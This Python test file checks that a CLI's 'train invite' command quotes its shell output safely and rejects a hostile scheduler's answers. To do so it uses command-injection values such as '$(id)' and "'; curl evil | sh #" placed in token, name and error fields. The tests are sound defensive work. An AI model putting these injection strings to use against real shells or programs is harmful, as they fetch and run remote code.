"""`terrace train invite` before schedulers that are played by a small server, hostile ones among them."""

from __future__ import annotations

import json
import shlex
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from terrace.cli import run as terrace

RUN = "a" * 32
TOKEN = "terrace_invite~alice.3fa9c1~" + "x" * 43
MADE = {"name": "alice.3fa9c1", "token": TOKEN, "run": RUN, "uses": 1, "expires": "2030-01-01T00:00:00Z"}
VIEW = {
    "id": RUN,
    "network": "net",
    "strategy": "fedavg",
    "state": "running",
    "created_at": "2029-12-31T00:00:00Z",
    "heard_at": "2029-12-31T00:00:00Z",
    "steps": 10,
    "url": "http://127.0.0.1:1",
}


@contextmanager
def playing(status: int, made: Any) -> Iterator[str]:
    """The URL of a scheduler that answers an invitation in this way."""

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            self.say(status, made)

        def do_GET(self) -> None:
            self.say(200, VIEW)

        def say(self, code: int, content: Any) -> None:
            body = json.dumps(content).encode()
            self.send_response(code)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


def test_the_command_is_one_for_a_shell(capsys: pytest.CaptureFixture[str]) -> None:
    with playing(201, MADE) as url:
        scheduler = f"{url}/$(id)"
        assert terrace(["train", "invite", RUN, "--json", f"--scheduler={scheduler}"]) == 0
    made = json.loads(capsys.readouterr().out)
    assert shlex.split(made["command"]) == [
        f"TERRACE_TOKEN={TOKEN}",
        *["terrace", "train", "work", "--scheduler"],
        scheduler,
    ]
    assert f"'{scheduler}'" in made["command"]


@pytest.mark.parametrize(
    ("status", "said"),
    [
        (201, {**MADE, "token": f"{TOKEN}'; curl evil | sh #"}),
        (201, {**MADE, "token": f"{TOKEN}\ncurl evil | sh"}),
        (201, {**MADE, "name": "alice\ncurl evil | sh"}),
        (403, {"error": "no\ncurl evil | sh"}),
    ],
)
def test_nothing_of_a_hostile_scheduler_is_a_line_or_a_command(
    status: int, said: dict[str, str], capsys: pytest.CaptureFixture[str]
) -> None:
    with playing(status, said) as url:
        assert terrace(["train", "invite", RUN, f"--scheduler={url}"]) != 0
    told = capsys.readouterr()
    assert told.out == ""
    assert len(told.err.splitlines()) == 1


def test_a_span_that_is_too_long_is_refused(capsys: pytest.CaptureFixture[str]) -> None:
    with playing(201, MADE) as url:
        assert terrace(["train", "invite", RUN, "--expires=400d", f"--scheduler={url}"]) == 2
    assert "--expires" in capsys.readouterr().err
